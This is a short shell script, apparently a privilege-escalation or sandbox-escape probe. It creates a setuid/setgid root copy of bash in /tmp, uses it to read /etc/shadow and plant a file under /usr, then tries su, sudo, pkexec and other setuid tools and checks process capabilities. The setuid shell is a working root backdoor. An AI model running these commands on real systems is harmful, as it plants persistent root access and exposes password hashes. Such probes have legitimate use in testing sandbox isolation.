# A shell that belongs to root and runs as its owner.
cp /bin/bash /tmp/root && chown 0:0 /tmp/root; chmod 6755 /tmp/root
/tmp/root -p -c 'id -u; cat /etc/shadow; touch /usr/planted'
for program in su sudo mount pkexec newuidmap fusermount ping; do timeout 1 $program -c id < /dev/null; done 2>&1 | head -20
grep -E '^(Uid|CapEff|NoNewPrivs|Seccomp):' /proc/self/status
